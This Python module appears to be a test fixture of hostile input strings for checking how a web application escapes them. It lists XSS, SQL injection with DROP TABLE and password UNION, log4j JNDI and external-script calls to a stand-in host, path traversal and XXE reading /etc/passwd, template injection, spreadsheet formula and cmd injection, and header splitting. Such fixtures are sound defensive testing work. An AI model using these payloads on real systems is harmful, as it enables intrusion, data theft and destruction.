"""Texts that try to be something else than text, wherever they come to stand."""

from typing import Final

MARK: Final = "pwned"
"""In every text that tries to run: ``window.__pwned`` would be set."""
_RUN: Final = "window.__pwned=1"

STRINGS: Final[dict[str, str]] = {
    # Markup
    "script": f"<script>{_RUN}</script>",
    "script from elsewhere": "<script src=//pwned.invalid/x.js></script>",
    "image": f"<img src=x onerror={_RUN}>",
    "image without an end": f"<img src=x onerror={_RUN}//",
    "drawing": f"<svg/onload={_RUN}>",
    "drawing with a script": f"<svg><script href='data:,{_RUN}'/></svg>",
    "drawing that moves": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "frame": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "details": f"<details open ontoggle={_RUN}>",
    "form": f"<form action=javascript:{_RUN}><button autofocus>",
    "base": "<base href=//pwned.invalid/>",
    "meta": "<meta http-equiv=refresh content='0;url=//pwned.invalid'>",
    "style": "<style>body{background:url(//pwned.invalid)}</style>",
    "mathematics": f"<math><mtext></table><img src=x onerror={_RUN}>",
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "ends a script": f"</script><script>{_RUN}</script>",
    "ends a box of text": f"</textarea><img src=x onerror={_RUN}>",
    "ends the title": f"</title></style><svg onload={_RUN}>",
    "comment": f"<!--><img src=x onerror={_RUN}>-->",
    "begins a comment": "<!-- pwned",
    "double escape in a script": "<!--<script>pwned",
    "data section": f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    "upper case": f"<ScRiPt>{_RUN}</sCrIpT>",
    # Attributes
    "ends an attribute": f'" autofocus onfocus="{_RUN}',
    "ends an attribute in single quotes": f"' autofocus onfocus='{_RUN}",
    "ends an attribute with a grave accent": f"` onmouseover=`{_RUN}",
    "ends an attribute and its element": f'"><x-pwned onclick={_RUN}>',
    "entities": f"&lt;img src=x onerror={_RUN}&gt;&quot;&#39;&#x3c;&nbsp;&notanentity;",
    # Addresses
    "address that runs": f"javascript:{_RUN}",
    "address that runs, hidden": f"java\tscript:{_RUN}//https://example.org",
    "address of data": f"data:text/html,<script>{_RUN}</script>",
    "address of another site": "//pwned.invalid/%2f..",
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\pwned.exe:stream",
    # Templates and formats
    "template": "{{7*7777777}}{{config.items()}}{%print(7*7777777)%}",
    "template of JavaScript": f"${{{_RUN}}}#{{{_RUN}}}<%= {_RUN} %>",
    "format": "{0.__class__.__init__.__globals__} %(pwned)s %s%n%x",
    "log4j": "${jndi:ldap://pwned.invalid/a}",
    # The store
    "SQL": "pwned'); DROP TABLE award;--",
    "SQL, always true": "' OR '1'='1' UNION SELECT password FROM member--",
    "wildcards": "100%_[a-z]*?\\%",
    "JSON": '{"pwned": [1, "\\u0000", null]}]}"\\',
    # Sheets
    "formula": '=HYPERLINK("http://pwned.invalid","see")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+pwned",
    "minus": "-1+pwned",
    "at": "@SUM(1)",
    "tab before a formula": "\t=1+pwned",
    "line before a formula": "\r\n=1+pwned",
    "wide equals sign": "\uff1d1+1",
    "CSV": 'a","=1+1"\r\n"pwned',
    "apostrophe": "'=1+1",
    "escape of a workbook": "_x0041__x000D_",
    # Lines
    "header": "a\r\nSet-Cookie: pwned=1\r\n\r\n<html>",
    "calendar": "a\nEND:VEVENT\nBEGIN:VALARM\nACTION:DISPLAY",
    "separators": "a\u2028b\u2029c\x85d",
    "terminal": "\x1b[2J\x1b]0;pwned\x07\x9b31m",
    # Writing
    "turned round": "\u202egpj.exe\u202c \u2066pwned\u2069",
    "of no width": "pay\u200bpal\u200d\ufeff\u2060",
    "marks without end": "Z" + "\u0300\u0489" * 200,
    "composed and not": "\u212b \u00c5 A\u030a \ufb01 \u1e9b\u0323 \u0130i\u0131",
    "pictures": "🏳️\u200d🌈 👩\u200d👩\u200d👧 🇬🇧 \U0001f9d1\U0001f3fd",
    "not of this plane": "𝕡𝕨𝕟𝕖𝕕 \U000e0041 \U0010fffd",
    "no characters": "a\ufffe\uffffb",
    "Arabic": "مرحبا ﷽ 1٢٣",
    "entity of a document": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "ten thousand": "pwned " + "x" * 10_000,
}
UNFIT: Final = {
    "NUL": "a\0b",
    "half a pair": "a\ud800b",
    "a million": "x" * 1_000_000,
}
"""What no store or no form takes: refused, or read without it, but never a fault."""
